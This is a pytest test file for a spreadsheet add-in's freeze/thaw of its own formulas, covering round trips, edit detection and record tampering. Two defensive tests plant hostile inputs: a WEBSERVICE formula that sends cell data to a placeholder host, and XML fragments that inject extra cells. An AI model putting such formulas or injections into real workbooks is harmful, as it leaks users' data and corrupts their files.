"""Freeze and Thaw: our formulas become values and come back to the letter; everything else stays."""

from __future__ import annotations

import csv
import json
import shutil
import subprocess
import zipfile
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
import xlsxwriter
from typer.testing import CliRunner

from salesplan_xl import cli
from salesplan_xl.actions.decompose import decompose
from salesplan_xl.actions.finalise import finalise
from salesplan_xl.actions.freeze import freeze
from salesplan_xl.actions.frozen_record import read_frozen
from salesplan_xl.actions.thaw import thaw
from salesplan_xl.actions.undo import undo
from salesplan_xl.cells import CellError, CellFormula
from salesplan_xl.hosts.memory import MemoryWorkbook
from salesplan_xl.hosts.package import open_package
from salesplan_xl.tables.contract import TABLES
from tests.addin.libreoffice import needs_libreoffice
from tests.plan_books import SMALL, plan_book, rows_of

# 100 in steps of one over 1:2:3 is 16.67, 33.33, 50: two whole parts short of 100 by the largest remainder.
PARTS = [17, 33, 50]
SPLIT = "=DECOMPOSE(100,A1:A3,1)"
OURS = {
    "B1:B3": (SPLIT, "dynamic"),
    "C1:C3": (SPLIT, "array"),
    "D1": ('=IFERROR(GAP(A3,A1),"x")', "plain"),
    "D3": ('=IF(GAP(1,2)>0,"a<b","")', "plain"),
    "D4": ("=PACE(1,0)", "plain"),
    "D5": ("=SP.GAP(3,1)", "plain"),
    "G2": ("=GAP(tblX[[#This Row],[a]],1)", "plain"),
    "G3": ("=GAP(tblX[[#This Row],[a]],1)", "plain"),
}


def write_book(path: Path, record: bool = True, extra: str = "") -> Path:
    """Write a planner's own workbook with formulas of ours of every kind, and others."""
    book = xlsxwriter.Workbook(path)
    sheet = book.add_worksheet("计划 A")
    two = book.add_format({"num_format": "0.00"})
    sheet.write_column("A1", [1, 2, 3])
    sheet.write_dynamic_array_formula("B1:B3", SPLIT, two, 17)
    sheet.write_array_formula("C1:C3", SPLIT, two, 17)
    for column in "BC":
        sheet.write_number(f"{column}2", 33, two)
        sheet.write_number(f"{column}3", 50, two)
    sheet.write_formula("D1", OURS["D1"][0], None, -2)
    sheet.write_formula("D2", "=SUM(A1:A3)", None, 6)
    sheet.write_formula("D3", OURS["D3"][0], None, "a<b")
    sheet.write_formula("D4", OURS["D4"][0], None, "#DIV/0!")
    sheet.write_formula("D5", OURS["D5"][0], None, -2)
    sheet.write_formula("D6", '=LEN("GAP(1,2)")', None, 8)
    columns: list[dict[str, Any]] = [{"header": "a"}, {"header": "gap", "formula": "=GAP([@a],1)"}]
    sheet.add_table("F1:G3", {"name": "tblX", "columns": columns})
    for row in (1, 2):
        sheet.write_number(row, 5, row)
        sheet.write_formula(row, 6, OURS["G2"][0], None, 1 - row)
    if extra:
        sheet.write_formula("D9", extra)
    book.define_name("SP.GAP", "=_xlfn.LAMBDA(_xlpm.a,_xlpm.b,_xlpm.b-_xlpm.a)")
    if record:
        for name in ("tblFrozen", "tblUndo", "tblLog"):
            table = TABLES[name]
            other = book.add_worksheet(table.sheet("en"))
            labels = [{"header": label} for label in table.header("en")]
            other.add_table(0, 0, 1, len(labels) - 1, {"name": name, "columns": labels})
            if table.hidden:
                other.very_hidden()
    book.close()
    return path


def parts_of(path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as file:
        return {name: file.read(name) for name in file.namelist()}


@pytest.fixture
def plan(tmp_path: Path) -> Path:
    return write_book(tmp_path / "plan.xlsx")


def run(action: Any, path: Path, **options: Any) -> Any:
    book = open_package(path)
    outcome = action(book, **options)
    assert not outcome.problems, [problem.sentence("en") for problem in outcome.problems]
    book.save()
    return outcome


def changed(before: Path, after: Path) -> set[str]:
    """Return the parts that differ, those of the record and the log left out."""
    one, other = parts_of(before), parts_of(after)
    own = {f"xl/worksheets/sheet{n}.xml" for n in (2, 3, 4)} | {f"xl/tables/table{n}.xml" for n in (2, 3, 4)}
    return {name for name in {*one, *other} - own if one.get(name) != other.get(name)}


def test_every_formula_of_ours_becomes_its_value_and_no_other(plan: Path, tmp_path: Path) -> None:
    before = Path(shutil.copy(plan, tmp_path / "before.xlsx"))
    outcome = run(freeze, plan)
    assert outcome.figures["count"] == len(OURS)
    book = open_package(plan)
    texts = {formula.area: formula.text for formula in book.formulas(lambda text: True)}
    assert texts == {"D2": "=SUM(A1:A3)", "D6": '=LEN("GAP(1,2)")'}
    assert [row[0] for row in book.read_area("'计划 A'!B1:B3")] == PARTS
    assert [row[0] for row in book.read_area("'计划 A'!C1:C3")] == PARTS
    shown = [row[0] for row in book.read_area("'计划 A'!D1:D6")]
    assert shown == [-2, 6, "a<b", CellError.DIV0, -2, 8]
    assert [row[1] for row in book.read_table("tblX").rows] == [0, -1]
    assert changed(before, plan) == {"xl/worksheets/sheet1.xml", "xl/tables/table1.xml"}
    assert b"GAP(" not in parts_of(plan)["xl/tables/table1.xml"]


def test_what_was_frozen_comes_back_to_the_letter(plan: Path, tmp_path: Path) -> None:
    before = Path(shutil.copy(plan, tmp_path / "before.xlsx"))
    run(freeze, plan)
    outcome = run(thaw, plan)
    assert outcome.figures["count"] == len(OURS)
    assert changed(before, plan) == set()
    kinds = {f.area: (f.text, f.kind) for f in open_package(plan).formulas(lambda text: True)}
    assert {place: kinds[place] for place in OURS} == OURS
    assert rows_of(open_package(plan), "tblFrozen") == []
    assert [row["action"] for row in rows_of(open_package(plan), "tblLog")] == ["freeze", "thaw"]


def test_a_second_time_changes_nothing(plan: Path) -> None:
    run(freeze, plan)
    book = open_package(plan)
    again = freeze(book)
    assert (again.tables, again.problems) == ({}, ())
    assert "No cell holds a SalesPlan formula" in again.summary.sentence("en")
    assert not any(call.startswith("write") for call in book.calls)
    run(thaw, plan)
    assert [problem.reason for problem in thaw(open_package(plan)).problems] == ["thaw_nothing"]


def test_formulas_frozen_on_two_days_come_back_together(plan: Path) -> None:
    run(freeze, plan)
    more = CellFormula("计划 A", "D8", "=GAP(9,4)", "plain", ((-5,),))
    book = open_package(plan)
    book.write_formulas([more])
    book.save()
    run(freeze, plan)
    run(thaw, plan)
    assert len(open_package(plan).formulas(lambda text: "(" in text)) == len(OURS) + 4  # a column, D2, D6, D8


def test_cells_that_a_person_edited_are_all_named_and_nothing_is_written(plan: Path) -> None:
    run(freeze, plan)
    book = open_package(plan)
    book.write_cells({"'计划 A'!B2": 34, "'计划 A'!D3": None})
    book.write_formulas([CellFormula("计划 A", "D1", "=A1-A3", "plain", ((-2,),))])
    book.save()
    before = plan.read_bytes()
    book = open_package(plan)
    problems = thaw(book).problems
    assert [(p.reason, p.sheet, p.cell) for p in problems] == [
        ("thaw_edited", "计划 A", "B2"),
        ("thaw_edited", "计划 A", "D1"),
        ("thaw_edited", "计划 A", "D3"),
    ]
    for language, said in (("en", "was edited since"), ("zh", "被改过")):
        assert all(said in problem.sentence(language) for problem in problems)
    assert not any(call.startswith("write") for call in book.calls)
    assert plan.read_bytes() == before
    outcome = run(thaw, plan, keep_edited=True)
    assert "'计划 A'!B1:B3" in outcome.attention[0].sentence("en")
    texts = {formula.area: formula.text for formula in open_package(plan).formulas(lambda text: True)}
    assert texts["C1:C3"] == SPLIT
    assert texts["D1"] == "=A1-A3"
    assert {"B1:B3", "D3"}.isdisjoint(texts)


def test_a_table_column_that_was_edited_keeps_its_values_and_others_get_their_formula(plan: Path) -> None:
    run(freeze, plan)
    book = open_package(plan)
    book.write_cells({"'计划 A'!G3": 9})
    book.save()
    problems = thaw(open_package(plan)).problems
    assert [(p.reason, p.cell) for p in problems] == [("thaw_edited", "G3"), ("thaw_column_changed", "")]
    assert "tblX[gap]" in problems[1].sentence("zh")
    run(thaw, plan, keep_edited=True)
    book = open_package(plan)
    assert book.tables()["tblX"].calculated == frozenset()
    texts = {f.area: f.text for f in book.formulas(lambda text: True)}
    assert "G3" not in texts
    assert texts["G2"] == OURS["G2"][0]
    assert book.read_cell("'计划 A'!G3") == 9


def test_a_sheet_that_is_gone_is_named(plan: Path) -> None:
    run(freeze, plan)
    data = parts_of(plan)
    data["xl/workbook.xml"] = data["xl/workbook.xml"].replace("计划 A".encode(), "计划 B".encode())
    with zipfile.ZipFile(plan, "w") as file:
        for name, content in data.items():
            file.writestr(name, content)
    problems = thaw(open_package(plan)).problems
    assert {problem.reason for problem in problems} == {"thaw_sheet_gone", "thaw_column_changed"}
    assert run(thaw, plan, keep_edited=True).figures["count"] == 0
    assert "计划 A" in problems[0].sentence("zh")


def test_a_formula_that_was_never_worked_out_stops_everything(tmp_path: Path) -> None:
    plan = write_book(tmp_path / "plan.xlsx", extra="=GAP(5,D2)")
    data = parts_of(plan)
    sheet = data["xl/worksheets/sheet1.xml"]
    data["xl/worksheets/sheet1.xml"] = sheet.replace(b"<f>GAP(5,D2)</f><v>0</v>", b"<f>GAP(5,D2)</f><v></v>")
    with zipfile.ZipFile(plan, "w") as file:
        for name, content in data.items():
            file.writestr(name, content)
    book = open_package(plan)
    outcome = freeze(book)
    assert [(p.reason, p.sheet, p.cell) for p in outcome.problems] == [("freeze_no_value", "计划 A", "D9")]
    assert "open the file in Excel" in outcome.problems[0].sentence("en")
    assert not any(call.startswith("write") for call in book.calls)


def test_values_that_are_old_or_missing_are_worked_out_anew_where_that_is_certain(tmp_path: Path) -> None:
    """The file says that it was not calculated since it changed, as files written without Excel do."""
    plan = write_book(tmp_path / "plan.xlsx", extra="=GAP(5,A3)")
    book = open_package(plan)
    book.write_cells({"'计划 A'!A1": 3})  # now 3:2:3 of 100, where D2 and what stands on it is not certain
    book.save()
    outcome = run(freeze, plan)
    book = open_package(plan)
    # 37.5, 25, 37.5: the tie goes to the earlier cell.
    for column in "BC":
        assert [row[0] for row in book.read_area(f"'计划 A'!{column}1:{column}3")] == [38, 25, 37]
    assert book.read_cell("'计划 A'!D9") == -2
    said = [each.sentence("en") for each in outcome.attention]
    assert said[0].startswith("3 values were worked out anew")
    assert "'计划 A'!D9" in said[0]
    assert said[1].startswith(
        "5 of the values may be out of date"
    )  # IFERROR, IF, SP.GAP and a table's column
    run(thaw, plan)
    kinds = {f.area: (f.text, f.kind) for f in open_package(plan).formulas(lambda text: True)}
    assert {place: kinds[place] for place in OURS} == OURS


def test_a_workbook_without_a_place_for_the_record_gets_one(tmp_path: Path) -> None:
    plan = write_book(tmp_path / "plan.xlsx", record=False)
    before = parts_of(plan)
    run(freeze, plan)
    assert open_package(plan).tables()["tblFrozen"].sheet == "Frozen formulas"
    assert b'state="veryHidden"' in parts_of(plan)["xl/workbook.xml"]
    run(thaw, plan)
    after = parts_of(plan)
    added = {"xl/worksheets/sheet2.xml", "xl/worksheets/_rels/sheet2.xml.rels", "xl/tables/table2.xml"}
    assert set(after) - set(before) == added
    told = {"[Content_Types].xml", "xl/workbook.xml", "xl/_rels/workbook.xml.rels"}
    assert {name for name in before if before[name] != after[name]} == told


def test_formulas_can_be_forgotten_for_good(tmp_path: Path) -> None:
    plan = write_book(tmp_path / "plan.xlsx", record=False)
    cli._add_actions()
    done = CliRunner().invoke(cli.app, ["freeze", str(plan), "--forget"])
    assert done.exit_code == 0, done.output
    book = open_package(plan)
    assert {f.text for f in book.formulas(lambda text: True)} == {"=SUM(A1:A3)", '=LEN("GAP(1,2)")'}
    assert "tblFrozen" not in book.tables()


def test_a_record_that_was_tampered_with_puts_nothing_into_the_sheet(plan: Path) -> None:
    """The record lies in the workbook: what it holds is looked at before it becomes formulas."""
    run(freeze, plan)
    book = open_package(plan)
    from salesplan_xl.actions.undo_record import deflated

    kept = read_frozen(book, book.tables(), lambda text: True)
    assert kept is not None
    entries = [{**vars(each), "values": None} for each in kept.formulas if each.kind == "column"]
    hostile = {
        "sheet": "计划 A", "area": "D1", "kind": "plain", "values": [[-2]], "spelling": "", "fresh": True,
        "text": '=WEBSERVICE("http://x/"&A1)',
    }  # fmt: skip
    book.write_table("tblFrozen", [[1, deflated({"after": 0, "formulas": [*entries, hostile]})[0]]])
    book.save()
    assert [p.reason for p in thaw(open_package(plan)).problems] == ["thaw_unreadable"]
    for damage in ("nonsense", deflated({"after": 0})[0], deflated({"after": 0, "formulas": [{}]})[0]):
        book = open_package(plan)
        book.write_table("tblFrozen", [[1, damage]])
        book.save()
        assert [p.reason for p in thaw(open_package(plan)).problems] == ["thaw_unreadable"]
        assert [p.reason for p in undo(open_package(plan)).problems] == ["undo_nothing"]


@pytest.mark.parametrize(
    ("said", "instead"),
    [("GAP(A3,A1)", "WEBSERVICE(A1)"), ("</f>", "</f></c><c r='ZZ1'><f>1</f>"), (" r=", ' x="ZZ1" r=')],
)
def test_a_spelling_that_says_more_than_its_formula_is_not_used(plan: Path, said: str, instead: str) -> None:
    run(freeze, plan)
    book = open_package(plan)
    kept = read_frozen(book, book.tables(), lambda text: True)
    assert kept is not None

    def other(spelling: str) -> str:
        parts = json.loads(spelling)
        return json.dumps([part.replace(said, instead) if isinstance(part, str) else part for part in parts])

    in_cells = [each for each in kept.formulas if each.kind != "column"]
    book.write_formulas([replace(each, spelling=other(each.spelling)) for each in in_cells])
    book.save()
    sheet = parts_of(plan)["xl/worksheets/sheet1.xml"]
    assert b"WEBSERVICE" not in sheet
    assert b"ZZ1" not in sheet
    assert {f.area: f.text for f in open_package(plan).formulas(lambda text: True)}["D1"] == OURS["D1"][0]


def test_finalise_forgets_the_formulas(tmp_path: Path) -> None:
    book = plan_book(
        "zh", tblQuota=[{"indicator": "sales_amount", "period": "2027-01", "committed": 1}], **SMALL
    )
    book.write_table("tblFrozen", [[1, "kept"]])
    outcome = finalise(book)
    assert rows_of(book, "tblFrozen") == []
    assert any("随定稿清除" in said.sentence("zh") for said in outcome.attention)


def frozen_memory(language: str) -> MemoryWorkbook:
    book = plan_book(language, tblMembers=[{"dimension": "region", "member": "East"}], **SMALL)
    book._formulas = [CellFormula("Own", "B2", "=GAP(5,3)", "plain", ((-2,),))]
    book._values["Own", 2, 2] = -2
    return book


@pytest.mark.parametrize("language", ["en", "zh"])
def test_undo_waits_until_the_formulas_are_back(language: str) -> None:
    book = frozen_memory(language)
    decompose(book)
    freeze(book)
    assert [p.reason for p in undo(book).problems] == ["undo_after_freeze"]
    thaw(book)
    assert not undo(book).problems
    assert rows_of(book, "tblQuota") == []


@pytest.mark.parametrize("language", ["en", "zh"])
def test_each_table_is_read_and_written_at_most_once(language: str) -> None:
    book = frozen_memory(language)
    book.calls.clear()
    outcome = freeze(book)
    assert ("公式转成数值" if language == "zh" else "into their values") in outcome.summary.sentence(language)
    assert max(book.calls.values()) == 1
    book.calls.clear()
    thaw(book)
    assert max(book.calls.values()) == 1


class TestLibreOffice:
    pytestmark = needs_libreoffice

    def test_it_shows_the_values_of_a_frozen_file(self, plan: Path, tmp_path: Path) -> None:
        run(freeze, plan)
        target = tmp_path / "out"
        subprocess.run(
            ["soffice", "--headless", f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}",
             "--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76,1", "--outdir", str(target),
             str(plan)],
            check=True, capture_output=True, timeout=180,
        )  # fmt: skip
        (made,) = target.glob("*.csv")
        rows = list(csv.reader(made.read_text("utf-8").splitlines()))
        assert [[float(row[1]), float(row[2])] for row in rows[:3]] == [[part, part] for part in PARTS]
        assert [row[3] for row in rows[:5]] == ["-2", "6", "a<b", "#DIV/0!", "-2"]
